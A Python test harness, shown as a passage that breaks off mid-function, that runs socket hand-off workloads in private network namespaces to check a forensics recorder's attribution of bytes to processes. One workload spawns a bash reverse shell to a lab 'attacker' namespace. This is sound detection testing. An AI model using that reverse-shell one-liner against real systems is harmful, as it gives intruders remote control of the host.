#!/usr/bin/env python3
"""Hand-off scenario: sockets that change hands, are shared, or carry a new
program, recorded by procflow-snap, with the owner of every byte known.

Builds a "host" network namespace (the suspect host) with an uplink veth to
a "peer" namespace and a bridge with one "container" namespace behind
nftables masquerade (the NAT lab of tests/nat_e2e.rs), runs
`procflow-snap record` inside the host namespace at its defaults (and, with
--nouse-arg, a second recorder beside it with the per-send tracepoints
turned off, and one on `lo` for the loopback scenario), then these
workloads, IPv4 and IPv6 where it applies:

  fork       connect, send 1 MB, fork; the parent closes, the child sends 2 MB
  scm        a broker connects, sends 200 kB, passes the fd to a worker over a
             unix socket (SCM_RIGHTS) and closes its copy; the worker sends 2 MB
  exec       connect, send 500 kB, execve() head, which writes 1.5 MB
  revshell   bash -i >& /dev/tcp/PEER/PORT 0>&1; the peer runs
             `head -c 2000000 /dev/zero` through it
  forkserver Python's socketserver.ForkingTCPServer, three requests
  sshd       Debian's sshd on a high port, a non-root user with key auth; the
             peer runs `ssh USER@HOST 'head -c 3000000 /dev/zero'`
  short      20 processes living 10-60 ms, each sending 20 kB
  loopback   curl to `python3 -m http.server` on 127.0.0.1 and ::1
  natudp     a container sends 40 UDP queries, each from a fresh socket,
             through masquerade to the peer's echo

Ground truth comes from the workload: every Python workload process appends
its pid and the byte ranges it sent and read on each socket (offsets in the
socket's byte stream, from the connection's start; UDP: cumulative datagram
payload) to truth.jsonl; bash, head and sshd run under `strace -f -yy`,
whose read/write calls on the TCP socket give the same ranges per pid;
curl prints its local port and byte counts. The script writes truth.json
(see docs/e2e.md). Needs root, iproute2, tcpdump, nft, strace, sshd, ssh,
curl and python3. Only traffic between namespaces it creates; everything is
removed on exit, also on failure (the temporary user too).

Usage:
  handoff-scenario.py --out WORKDIR --snap PATH [--nouse-arg ARG]...
                      [--recorder-nice N] [--only NAME,...]

The same file is the agent program: `handoff-scenario.py agent ROLE ARGS...`.
Python standard library only.
"""

import argparse
import array
import json
import os
import pwd
import random
import re
import shutil
import signal
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import time

SINK_PORT = 5101  # peer: reads to EOF, answers 8 bytes (the count), closes
DRAIN_PORT = 5102  # peer: reads to EOF, closes
ECHO_PORT = 5103  # peer: UDP echo
PIDSINK_PORT = 5104  # peer: reads a 12-byte header (sender's pid, index), then to EOF
REVSHELL_PORT = {"ipv4": 4444, "ipv6": 4446}
FORKSERVER_PORT = 7100  # host: ForkingTCPServer (dual stack)
SSHD_PORT = 22222  # host: sshd
HTTP_PORT = {"ipv4": 8123, "ipv6": 8124}  # host: python3 -m http.server on loopback
CHUNK = 65536
# Bytes/s the peer reads at: the senders' pace through TCP flow control.
PEER_READ_RATE = 6_000_000
ALL = ["fork", "scm", "exec", "revshell", "forkserver", "sshd", "short", "loopback", "natudp"]


# --------------------------------------------------------------------------
# Agent side.
# --------------------------------------------------------------------------


def emit(obj):
    print(json.dumps(obj), flush=True)


def truth(**kv):
    """Appends one truth line (this process' pid added) to $HO_TRUTH."""
    kv.setdefault("pid", os.getpid())
    line = (json.dumps(kv) + "\n").encode()
    fd = os.open(os.environ["HO_TRUTH"], os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
    try:
        os.write(fd, line)  # one write of one line: O_APPEND keeps lines whole
    finally:
        os.close(fd)


def plain(ip):
    return ip[7:] if ip.startswith("::ffff:") else ip


def ends(sock):
    """(local_ip, local_port, remote_ip, remote_port) of a connected socket."""
    l, r = sock.getsockname(), sock.getpeername()
    return {"local_ip": plain(l[0]), "local_port": l[1], "remote_ip": plain(r[0]), "remote_port": r[1]}


def seg(proc, sock_ends, direction, start, end, proto="tcp", **extra):
    if end > start:
        truth(kind="seg", proc=proc, proto=proto, dir=direction, start=start, end=end, **sock_ends, **extra)


def send_n(sock, n, pattern=b"x"):
    buf = pattern * CHUNK
    left = n
    while left:
        k = sock.send(buf[: min(CHUNK, left)])
        left -= k
    return n


def recv_all(sock, rate=0):
    """Reads to EOF, at most `rate` bytes/s (0: no limit); bytes read."""
    n = 0
    start = time.monotonic()
    while True:
        part = sock.recv(CHUNK)
        if not part:
            return n
        n += len(part)
        if rate:
            ahead = n / rate - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)


def connect(host, port):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.connect((host, port))
    return s


def finish(sock):
    """Shut the sending side, read the sink's 8-byte answer; bytes read."""
    sock.shutdown(socket.SHUT_WR)
    return recv_all(sock)


def agent_peer(_args):
    """Peer namespace: the sink, the drain (v4 and v6) and the UDP echo."""

    def listener(fam, port):
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if fam == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", port))
        s.listen(128)
        return s

    def serve(c, answer):
        with c:
            # Paced by the reader (TCP flow control): the capture keeps up
            # on a busy machine, whatever program sends.
            n = recv_all(c, PEER_READ_RATE)
            if answer:
                try:
                    c.sendall(struct.pack("!Q", n))
                except OSError:
                    pass

    def loop(ls, answer):
        while True:
            c, _ = ls.accept()
            threading.Thread(target=serve, args=(c, answer), daemon=True).start()

    def pid_sink(c):
        """The short-lived processes send their pid and index first: the
        truth of who sent the connection's bytes, from the sender itself."""
        with c:
            hdr = b""
            while len(hdr) < 12:
                part = c.recv(12 - len(hdr))
                if not part:
                    return
                hdr += part
            pid, idx = int(hdr[:8]), int(hdr[8:])
            n = 12 + recv_all(c)
            host, peer = c.getpeername(), c.getsockname()
            fam = "ipv6" if c.family == socket.AF_INET6 else "ipv4"
            e = {"local_ip": plain(host[0]), "local_port": host[1], "remote_ip": plain(peer[0]),
                 "remote_port": peer[1]}
            truth(kind="seg", pid=pid, proc="short-%s/short-%02d" % (fam, idx), proto="tcp", dir="send",
                  start=0, end=n, cmd="bash", args="short-lived-%d " % idx, identity=True, **e)

    def pid_loop(ls):
        while True:
            c, _ = ls.accept()
            threading.Thread(target=pid_sink, args=(c,), daemon=True).start()

    for fam in (socket.AF_INET, socket.AF_INET6):
        for port, answer in ((SINK_PORT, True), (DRAIN_PORT, False)):
            threading.Thread(target=loop, args=(listener(fam, port), answer), daemon=True).start()
        threading.Thread(target=pid_loop, args=(listener(fam, PIDSINK_PORT),), daemon=True).start()
    for fam in (socket.AF_INET, socket.AF_INET6):
        u = socket.socket(fam, socket.SOCK_DGRAM)
        if fam == socket.AF_INET6:
            u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        u.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", ECHO_PORT))

        def echo(u=u):
            while True:
                d, a = u.recvfrom(65535)
                u.sendto(d, a)

        threading.Thread(target=echo, daemon=True).start()
    emit({"event": "start", "pid": os.getpid()})
    while True:
        time.sleep(3600)


def agent_fork(args):
    """connect, send 1 MB, fork; the parent closes its copy, the child sends 2 MB."""
    s = connect(args.host, SINK_PORT)
    e = ends(s)
    first = send_n(s, 1_000_000)
    seg(args.proc + "/parent", e, "send", 0, first, cmd="python", args="fork-handoff")
    child = os.fork()
    if child == 0:
        try:
            second = send_n(s, 2_000_000)
            seg(args.proc + "/child", e, "send", first, first + second, cmd="python", args="fork-handoff")
            got = finish(s)
            seg(args.proc + "/child", e, "recv", 0, got, cmd="python", args="fork-handoff")
            s.close()
        finally:
            os._exit(0)
    s.close()
    _, status = os.waitpid(child, 0)
    emit({"event": "done", "status": status})
    sys.exit(1 if status else 0)


def agent_scm_broker(args):
    """connect, send 200 kB, pass the fd to a worker (SCM_RIGHTS), close our copy."""
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    worker = subprocess.Popen(
        [sys.executable, os.path.abspath(__file__), "agent", "scm-worker", args.proc, str(b.fileno())],
        pass_fds=(b.fileno(),),
    )
    b.close()
    s = connect(args.host, SINK_PORT)
    e = ends(s)
    first = send_n(s, 200_000)
    seg(args.proc + "/broker", e, "send", 0, first, cmd="python", args="scm-broker")
    a.sendmsg([json.dumps({"sent": first, "ends": e}).encode()],
              [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
    s.close()
    a.close()
    rc = worker.wait()
    emit({"event": "done", "worker": worker.pid, "rc": rc})
    sys.exit(rc)


def agent_scm_worker(args):
    u = socket.socket(fileno=args.fd)
    fds = array.array("i")
    msg, anc, _, _ = u.recvmsg(4096, socket.CMSG_SPACE(fds.itemsize))
    for level, typ, data in anc:
        if level == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
            fds.frombytes(data[: len(data) - (len(data) % fds.itemsize)])
    info = json.loads(msg)
    s = socket.socket(fileno=fds[0])
    first = info["sent"]
    second = send_n(s, 2_000_000)
    e = info["ends"]
    seg(args.proc + "/worker", e, "send", first, first + second, cmd="python", args="scm-worker")
    got = finish(s)
    seg(args.proc + "/worker", e, "recv", 0, got, cmd="python", args="scm-worker")
    s.close()


def agent_exec(args):
    """connect, send 500 kB, then exec head with the socket as its stdout."""
    s = connect(args.host, DRAIN_PORT)
    e = ends(s)
    first = send_n(s, 500_000)
    head = shutil.which("head") or "/usr/bin/head"
    seg(args.proc + "/proc", e, "send", 0, first, cmd="python", args="exec-after-connect")
    # head writes exactly this many bytes, after the exec, as the same pid.
    seg(args.proc + "/proc", e, "send", first, first + 1_500_000, cmd="head", args="head -c 1500000",
        program="head")
    os.dup2(s.fileno(), 1)
    os.execv(head, ["head", "-c", "1500000", "/dev/zero"])


def agent_revshell_peer(args):
    """The attacker: accept the shell, run head through it, then exit."""
    fam = socket.AF_INET6 if args.family == "ipv6" else socket.AF_INET
    ls = socket.socket(fam, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", args.port))
    ls.listen(1)
    emit({"event": "start", "pid": os.getpid()})
    ls.settimeout(30)
    c, _ = ls.accept()
    c.settimeout(30)
    time.sleep(0.3)
    c.sendall(b"head -c 2000000 /dev/zero\n")
    zeros = total = 0
    start = time.monotonic()
    while zeros < 2_000_000:
        part = c.recv(CHUNK)
        if not part:
            break
        total += len(part)
        zeros += part.count(0)
        ahead = total / PEER_READ_RATE - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    time.sleep(0.3)
    c.sendall(b"exit\n")
    total += recv_all(c)
    emit({"event": "done", "received": total, "zeros": zeros})


def agent_forkserver(args):
    """Host: socketserver.ForkingTCPServer, dual stack; each handler is a child."""
    proc = args.proc

    class Handler(socketserver.BaseRequestHandler):
        def handle(self):
            s = self.request
            e = ends(s)
            hdr = b""
            while len(hdr) < 16:
                part = s.recv(16 - len(hdr))
                if not part:
                    return
                hdr += part
            up, down = struct.unpack("!QQ", hdr)
            got = 16
            while got < 16 + up:
                part = s.recv(min(CHUNK, 16 + up - got))
                if not part:
                    break
                got += len(part)
            send_n(s, down, b"r")
            name = "%s-%s/handler-%d" % (proc, "ipv6" if ":" in e["local_ip"] else "ipv4", os.getpid())
            seg(name, e, "recv", 0, got, cmd="python", args="forkserver")
            seg(name, e, "send", 0, down, cmd="python", args="forkserver")

    class Server(socketserver.ForkingTCPServer):
        address_family = socket.AF_INET6
        allow_reuse_address = True

        def server_bind(self):
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            super().server_bind()

    with Server(("::", args.port), Handler) as srv:
        emit({"event": "start", "pid": os.getpid()})
        srv.serve_forever()


def agent_forkserver_client(args):
    for i in range(args.count):
        s = connect(args.host, args.port)
        s.sendall(struct.pack("!QQ", 300_000, 700_000))
        send_n(s, 300_000)
        recv_all(s)
        s.close()
        time.sleep(0.1)


# The short-lived program: a shell one-liner with builtins only (bash
# starts in a few ms), so that it lives 10-60 ms: connect, send its pid and
# index (the peer writes the truth from them), wait 10-49 ms, send 20 kB, exit.
SHORT_CODE = ('exec 3<>"/dev/tcp/$1/$2"; printf %08d%04d $$ "$3" >&3; '
              'read -t "0.0$((1 + RANDOM % 4))$((RANDOM % 10))" -u 3; printf %20000s "" >&3')


def agent_short_launcher(args):
    """Starts `count` short-lived programs 100 ms apart (IPv4 and IPv6 in
    turn); prints how long each lived, fork to exit."""
    lives = [None] * args.count
    threads = []
    bash = shutil.which("bash") or "/bin/bash"

    def watch(i, p, t):
        rc = p.wait()
        lives[i] = (time.monotonic() - t) * 1000 if rc == 0 else None

    for i in range(args.count):
        host = (args.host4, args.host6)[i % 2]
        t = time.monotonic()
        p = subprocess.Popen([bash, "--norc", "--noprofile", "-c", SHORT_CODE, "short-lived-%d" % (i + 1),
                              host, str(PIDSINK_PORT), str(i + 1)])
        th = threading.Thread(target=watch, args=(i, p, t))
        th.start()
        threads.append(th)
        time.sleep(0.1)
    for th in threads:
        th.join()
    print(json.dumps({"life_ms": lives}), flush=True)
    if None in lives:
        sys.exit(1)


def agent_udp_fresh(args):
    """Resolver-style queries, each from a fresh UDP socket."""
    fam = socket.AF_INET6 if ":" in args.host else socket.AF_INET
    for i in range(args.count):
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.settimeout(1.0)
        s.sendto(b"q" * 60, (args.host, ECHO_PORT))
        local = s.getsockname()
        e = {"local_ip": args.nat_ip, "local_port": local[1], "remote_ip": args.host, "remote_port": ECHO_PORT}
        seg(args.proc + "/resolver", e, "send", 0, 60, proto="udp", cmd="python", args="udp-fresh")
        try:
            d, _ = s.recvfrom(65535)
            seg(args.proc + "/resolver", e, "recv", 0, len(d), proto="udp", cmd="python", args="udp-fresh")
        except socket.timeout:
            pass
        s.close()
        time.sleep(0.05)


def agent_main(argv):
    p = argparse.ArgumentParser(prog="agent")
    sub = p.add_subparsers(dest="role", required=True)
    sub.add_parser("peer")
    for name in ("fork-handoff", "scm-broker", "exec-after-connect"):
        c = sub.add_parser(name)
        c.add_argument("proc")
        c.add_argument("host")
    w = sub.add_parser("scm-worker")
    w.add_argument("proc")
    w.add_argument("fd", type=int)
    r = sub.add_parser("revshell-peer")
    r.add_argument("family")
    r.add_argument("port", type=int)
    f = sub.add_parser("forkserver")
    f.add_argument("proc")
    f.add_argument("port", type=int)
    fc = sub.add_parser("forkserver-client")
    fc.add_argument("host")
    fc.add_argument("port", type=int)
    fc.add_argument("count", type=int)
    s = sub.add_parser("short-launcher")
    s.add_argument("proc")
    s.add_argument("host4")
    s.add_argument("host6")
    s.add_argument("count", type=int)
    u = sub.add_parser("udp-fresh")
    u.add_argument("proc")
    u.add_argument("host")
    u.add_argument("nat_ip")
    u.add_argument("count", type=int)
    a = p.parse_args(argv)
    {
        "peer": agent_peer,
        "fork-handoff": agent_fork,
        "scm-broker": agent_scm_broker,
        "scm-worker": agent_scm_worker,
        "exec-after-connect": agent_exec,
        "revshell-peer": agent_revshell_peer,
        "forkserver": agent_forkserver,
        "forkserver-client": agent_forkserver_client,
        "short-launcher": agent_short_launcher,
        "udp-fresh": agent_udp_fresh,
    }[a.role](a)


# --------------------------------------------------------------------------
# strace: per-pid byte ranges on TCP sockets of programs we cannot change.
# --------------------------------------------------------------------------

STRACE_CALLS = "read,write,readv,writev,sendto,recvfrom,sendmsg,recvmsg"
STRACE_CALL = re.compile(
    r"^(\d+)\s+(read|write|readv|writev|sendto|recvfrom|sendmsg|recvmsg)\("
    r"\d+<(TCPv6|TCP):\[(.*)->(.*)\]>(.*)$"
)
STRACE_RESUMED = re.compile(r"^(\d+)\s+<\.\.\. (\w+) resumed>.*\)\s+=\s+(-?\d+)")
STRACE_RESULT = re.compile(r"\)\s+=\s+(-?\d+)")


def split_endpoint(text):
    """`10.0.0.1:22` or `[fd00::1]:22` -> (ip, port)."""
    host, _, port = text.rpartition(":")
    return plain(host.strip("[]")), int(port)


def strace_segments(path, title_of):
    """Byte ranges per pid and TCP socket from an `strace -f -yy` log.

    A call counts when it completes: on its line, or on its `<... resumed>`
    line when another process' line came between (`<unfinished ...>`); the
    log is in completion order, which is the order the bytes took in the
    socket. `title_of(pid)` names the process."""
    offsets = {}
    pending = {}
    out = []

    def add(pid, call, local, remote, n):
        if n <= 0:
            return
        lip, lport = split_endpoint(local)
        rip, rport = split_endpoint(remote)
        direction = "send" if call in ("write", "writev", "sendto", "sendmsg") else "recv"
        key = (lip, lport, rip, rport, direction)
        start = offsets.get(key, 0)
        offsets[key] = start + n
        for o in reversed(out):
            if o["_key"] == key:
                if o["pid"] == pid:
                    o["end"] += n
                    return
                break
        out.append({"_key": key, "kind": "seg", "pid": pid, "proc": title_of(pid),
                    "proto": "tcp", "dir": direction, "start": start, "end": start + n,
                    "local_ip": lip, "local_port": lport, "remote_ip": rip, "remote_port": rport})

    with open(path, errors="replace") as f:
        for line in f:
            m = STRACE_CALL.match(line)
            if m:
                pid, call, _, local, remote, rest = m.groups()
                if rest.rstrip().endswith("<unfinished ...>"):
                    pending[int(pid)] = (call, local, remote)
                    continue
                r = STRACE_RESULT.search(rest)
                if r:
                    add(int(pid), call, local, remote, int(r.group(1)))
                continue
            m = STRACE_RESUMED.match(line)
            if m:
                pid, call, n = int(m.group(1)), m.group(2), int(m.group(3))
                p = pending.pop(pid, None)
                if p and p[0] == call:
                    add(pid, call, p[1], p[2], n)
    for o in out:
        del o["_key"]
    return out


# --------------------------------------------------------------------------
# Scenario side.
# --------------------------------------------------------------------------


class ScenarioError(Exception):
    pass


def log(msg):
    print("handoff-scenario: " + msg, file=sys.stderr, flush=True)


def run(cmd, check=True, **kw):
    r = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kw)
    if check and r.returncode != 0:
        raise ScenarioError("command failed (exit %d): %s\n%s" % (r.returncode, " ".join(cmd), r.stderr.strip()))
    return r


class Scenario:
    def __init__(self, args):
        self.args = args
        self.work = os.path.abspath(args.out)
        self.logdir = os.path.join(self.work, "logs")
        self.truth_log = os.path.join(self.work, "truth.jsonl")
        self.agent = os.path.join(self.work, "ho-agent.py")
        self.python = sys.executable or "python3"
        pid = os.getpid()
        self.id = pid
        self.ns = {r: "ho-%s-%d" % (r, pid) for r in ("h", "p", "c")}
        self.up_h, self.up_p = "hou%d" % pid, "hop%d" % pid
        self.br, self.veth_c = "hob%d" % pid, "hov%d" % pid
        # Addresses exist only inside the namespaces; the third octet and
        # the IPv6 prefix carry the pid anyway, for readable captures.
        o = pid % 250
        self.h4, self.p4 = "10.214.%d.1" % o, "10.214.%d.2" % o
        self.h6, self.p6 = "fd14:%x::1" % (pid & 0xFFFF), "fd14:%x::2" % (pid & 0xFFFF)
        self.br4, self.c4 = "10.215.%d.1" % o, "10.215.%d.2" % o
        self.children = []
        self.recorders = []
        self.netns_made = []
        self.user = None
        self.extra_truth = []
        self.extra_procs = {}
        self.notes = {}

    # -- network -------------------------------------------------------------

    def setup(self):
        if os.path.exists(self.work) and os.listdir(self.work):
            raise ScenarioError("%s exists and is not empty" % self.work)
        os.makedirs(self.logdir, exist_ok=True)
        shutil.copyfile(os.path.abspath(__file__), self.agent)
        os.chmod(self.work, 0o755)
        open(self.truth_log, "w").close()
        os.chmod(self.truth_log, 0o666)
        h, p, c = self.ns["h"], self.ns["p"], self.ns["c"]
        for ns in (h, p, c):
            run(["ip", "netns", "add", ns])
            self.netns_made.append(ns)
            run(["ip", "-n", ns, "link", "set", "lo", "up"])
        run(["ip", "link", "add", self.up_h, "netns", h, "type", "veth", "peer", "name", self.up_p, "netns", p])
        run(["ip", "-n", h, "link", "add", self.br, "type", "bridge"])
        run(["ip", "link", "add", self.veth_c, "netns", h, "type", "veth", "peer", "name", "eth0", "netns", c])
        run(["ip", "-n", h, "link", "set", self.veth_c, "master", self.br])
        for ns, dev, addrs in ((h, self.up_h, [self.h4 + "/24", self.h6 + "/64"]),
                               (p, self.up_p, [self.p4 + "/24", self.p6 + "/64"]),
                               (h, self.br, [self.br4 + "/24"]),
                               (c, "eth0", [self.c4 + "/24"]),
                               (h, self.veth_c, [])):
            for a in addrs:
                run(["ip", "-n", ns, "addr", "add", a, "dev", dev] + (["nodad"] if ":" in a else []))
            run(["ip", "-n", ns, "link", "set", dev, "up"])
            if dev != self.br:
                run(["ip", "netns", "exec", ns, "ethtool", "-K", dev, "tso", "off", "gso", "off", "gro", "off"],
                    check=False)
        run(["ip", "-n", c, "route", "add", "default", "via", self.br4])
        run(["ip", "netns", "exec", h, "sysctl", "-qw", "net.ipv4.ip_forward=1"])
        rules = ("table ip honat%d {\n chain post { type nat hook postrouting priority 100; "
                 "oifname \"%s\" masquerade; }\n}\n" % (self.id, self.up_h))
        run(["ip", "netns", "exec", h, "nft", "-f", "-"], input=rules)
        deadline = time.monotonic() + 10
        for ns, dev in ((h, self.up_h), (p, self.up_p), (c, "eth0")):
            while "LOWER_UP" not in run(["ip", "-n", ns, "link", "show", dev]).stdout:
                if time.monotonic() > deadline:
                    raise ScenarioError("%s did not come up" % dev)
                time.sleep(0.05)

    def cleanup(self):
        for ch in self.children + self.recorders:
            if ch.poll() is None:
                ch.kill()
                try:
                    ch.wait(5)
                except subprocess.TimeoutExpired:
                    pass
        for ns in reversed(self.netns_made):
            run(["ip", "netns", "del", ns], check=False)
        self.netns_made = []
        if self.user:
            run(["userdel", "-f", self.user], check=False)
            self.user = None

    # -- processes -------------------------------------------------------------

    def spawn(self, ns, argv, name, env=None, stdout=subprocess.DEVNULL, **kw):
        e = dict(os.environ, HO_TRUTH=self.truth_log)
        if env:
            e.update(env)
        err = open(os.path.join(self.logdir, name + ".stderr"), "a")
        p = subprocess.Popen(["ip", "netns", "exec", self.ns[ns]] + argv, stdout=stdout, stderr=err, env=e, **kw)
        self.children.append(p)
        return p

    def agent_argv(self, *a):
        return [self.python, self.agent, "agent"] + [str(x) for x in a]

    def wait(self, p, what, timeout=60):
        try:
            rc = p.wait(timeout)
        except subprocess.TimeoutExpired:
            raise ScenarioError("%s did not finish within %d s" % (what, timeout))
        if rc != 0:
            raise ScenarioError("%s exited with %d (see logs/)" % (what, rc))

    def wait_started(self, p, what):
        line = p.stdout.readline()
        if not line:
            raise ScenarioError("%s did not start (see logs/)" % what)
        return json.loads(line)

    # -- recorders -------------------------------------------------------------

    def start_recorder(self, name, iface, extra):
        bundle = os.path.join(self.work, name)
        logf = open(os.path.join(self.logdir, name + ".recorder.stderr"), "w")
        cmd = [self.args.snap, "record", "--out", bundle, "--iface", iface] + extra
        p = subprocess.Popen(["ip", "netns", "exec", self.ns["h"]] + cmd, stdout=logf, stderr=logf)
        self.recorders.append(p)
        deadline = time.monotonic() + 20
        # Traffic must not start before the capture runs: the recorder's
        # "capture on IFACE" line (its own capture), or tcpdump's "listening
        # on" line in the bundle (with --capture tcpdump).
        tlog = os.path.join(bundle, "tcpdump.log")
        rlog = os.path.join(self.logdir, name + ".recorder.stderr")
        while True:
            if p.poll() is not None:
                raise ScenarioError("recorder %s exited early with %d" % (name, p.returncode))
            ready = False
            for path, needle in ((tlog, "listening on"), (rlog, "capture on ")):
                try:
                    with open(path) as f:
                        ready = ready or needle in f.read()
                except OSError:
                    pass
            if ready:
                break
            if time.monotonic() > deadline:
                raise ScenarioError("recorder %s: the capture did not start within 20 s" % name)
            time.sleep(0.05)
        if self.args.recorder_nice is not None:
            self.renice(p.pid, self.args.recorder_nice)
        return p

    def renice(self, pid, nice):
        pids = [pid]
        try:
            with open("/proc/%d/task/%d/children" % (pid, pid)) as f:
                pids += [int(x) for x in f.read().split()]
        except OSError:
            pass
        for q in pids:
            try:
                tids = os.listdir("/proc/%d/task" % q)
            except OSError:
                continue
            for t in tids:
                try:
                    os.setpriority(os.PRIO_PROCESS, int(t), nice)
                except OSError:
                    pass

    def stop_recorders(self):
        for p in self.recorders:
            p.send_signal(signal.SIGINT)
        for p in self.recorders:
            try:
                rc = p.wait(60)
            except subprocess.TimeoutExpired:
                raise ScenarioError("a recorder did not stop within 60 s of SIGINT")
            if rc != 0:
                raise ScenarioError("a recorder exited with %d after SIGINT (see logs/)" % rc)

    # -- workloads ---------------------------------------------------------------

    def families(self):
        return (("ipv4", self.p4), ("ipv6", self.p6))

    def w_fork(self):
        for fam, peer in self.families():
            p = self.spawn("h", self.agent_argv("fork-handoff", "fork-" + fam, peer), "fork-" + fam,
                           stdout=subprocess.PIPE)
            self.wait(p, "fork-" + fam)

    def w_scm(self):
        for fam, peer in self.families():
            p = self.spawn("h", self.agent_argv("scm-broker", "scm-" + fam, peer), "scm-" + fam,
                           stdout=subprocess.PIPE)
            self.wait(p, "scm-" + fam)

    def w_exec(self):
        for fam, peer in self.families():
            p = self.spawn("h", self.agent_argv("exec-after-connect", "exec-" + fam, peer), "exec-" + fam)
            self.wait(p, "exec-" + fam)

    def w_revshell(self):
        # A home of its own: the shell reads no start-up file of this machine.
        home = os.path.join(self.work, "home")
        os.makedirs(home, exist_ok=True)
        for fam, peer in self.families():
            port = REVSHELL_PORT[fam]
            attacker = self.spawn("p", self.agent_argv("revshell-peer", fam, port), "revshell-peer-" + fam,
                                  stdout=subprocess.PIPE)
            self.wait_started(attacker, "revshell peer")
            trace = os.path.join(self.logdir, "revshell-%s.strace" % fam)
            shell = self.spawn("h", ["strace", "-f", "-yy", "-qq", "-s", "0", "-e", "trace=%s,execve" % STRACE_CALLS,
                                     "-e", "signal=none", "-o", trace,
                                     "bash", "-c", "bash -i >& /dev/tcp/%s/%d 0>&1" % (peer, port)],
                               "revshell-" + fam, env={"HOME": home})
            self.wait(attacker, "revshell peer " + fam)
            try:
                shell.wait(20)
            except subprocess.TimeoutExpired:
                raise ScenarioError("the reverse shell did not exit")
            self.strace_truth(trace, "revshell-" + fam, {"head": ("head", "head -c 2000000")})

    def strace_truth(self, trace, scenario, expect):
        """Adds the ranges of an strace log; `expect` maps a comm to (cmd, args)
        substrings the report must show for its bytes."""
        segs = strace_segments(trace, lambda pid: "%s/pid-%d" % (scenario, pid))
        for s in segs:
            comm = self.comm_of_trace(trace, s["pid"])
            if comm in expect:
                s["cmd"], s["args"] = expect[comm]
            s["program"] = comm
        self.extra_truth += segs

    def comm_of_trace(self, trace, pid):
        """The program a pid last exec'd, from the log's `PID execve("PATH"` lines."""
        key = (trace, pid)
        if key not in self.extra_procs:
            comm = None
            with open(trace, errors="replace") as f:
                for line in f:
                    if line.startswith("%d " % pid) and "execve(" in line and line.rstrip().endswith("= 0"):
                        m = re.search(r'execve\("([^"]*)"', line)
                        if m:
                            comm = os.path.basename(m.group(1))
            self.extra_procs[key] = comm
        return self.extra_procs[key]

    def w_forkserver(self):
        srv = self.spawn("h", self.agent_argv("forkserver", "forkserver", FORKSERVER_PORT), "forkserver",
                         stdout=subprocess.PIPE)
        self.wait_started(srv, "forkserver")
        for fam, _ in self.families():
            host = self.h6 if fam == "ipv6" else self.h4
            c = self.spawn("p", self.agent_argv("forkserver-client", host, FORKSERVER_PORT, 3),
                           "forkserver-client-" + fam)
            self.wait(c, "forkserver client " + fam)
        time.sleep(0.3)
        srv.kill()
        srv.wait()

    def w_sshd(self):
        d = os.path.join(self.work, "sshd")
        os.makedirs(d)
        os.chmod(d, 0o755)
        user = "hoss%d" % self.id
        run(["useradd", "-M", "-d", d, "-s", "/bin/sh", user])
        self.user = user
        run(["usermod", "-p", "*", user])  # no password, but not a locked account
        run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(d, "host_key")])
        run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(d, "user_key")])
        shutil.copyfile(os.path.join(d, "user_key.pub"), os.path.join(d, "authorized_keys"))
        os.chmod(os.path.join(d, "authorized_keys"), 0o644)
        os.makedirs("/run/sshd", exist_ok=True)  # sshd's privilege separation directory
        conf = os.path.join(d, "sshd_config")
        with open(conf, "w") as f:
            f.write("Port %d\nListenAddress 0.0.0.0\nListenAddress ::\nHostKey %s/host_key\n"
                    "PidFile %s/sshd.pid\nAuthorizedKeysFile %s/authorized_keys\nStrictModes no\n"
                    "PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\n"
                    "PermitRootLogin no\nAllowUsers %s\nLogLevel VERBOSE\n" % (SSHD_PORT, d, d, d, user))
        trace = os.path.join(self.logdir, "sshd.strace")
        sshd = self.spawn("h", ["strace", "-f", "-yy", "-qq", "-s", "0", "-e", "trace=%s,execve" % STRACE_CALLS,
                                "-e", "signal=none", "-o", trace, "/usr/sbin/sshd", "-D", "-e", "-f", conf],
                          "sshd")
        # Up once it listens on both families.
        deadline = time.monotonic() + 10
        while ":%d " % SSHD_PORT not in run(["ip", "netns", "exec", self.ns["h"], "ss", "-ltn"]).stdout:
            if sshd.poll() is not None or time.monotonic() > deadline:
                raise ScenarioError("sshd did not start (see logs/sshd.stderr)")
            time.sleep(0.05)
        uid = pwd.getpwnam(user).pw_uid
        for fam, _ in self.families():
            host = self.h6 if fam == "ipv6" else self.h4
            out = os.path.join(self.logdir, "ssh-%s.out" % fam)
            with open(out, "wb") as o:
                c = self.spawn("p", ["ssh", "-i", os.path.join(d, "user_key"), "-p", str(SSHD_PORT),
                                     "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                                     "-o", "BatchMode=yes", "%s@%s" % (user, host),
                                     "head -c 3000000 /dev/zero"], "ssh-" + fam, stdout=o)
                self.wait(c, "ssh " + fam)
            if os.path.getsize(out) != 3_000_000:
                raise ScenarioError("ssh %s got %d bytes, not 3000000" % (fam, os.path.getsize(out)))
        time.sleep(0.5)
        # sshd itself, by its pid file: a SIGTERM to strace only detaches
        # it, and the listener would outlive the scenario.
        try:
            with open(os.path.join(d, "sshd.pid")) as f:
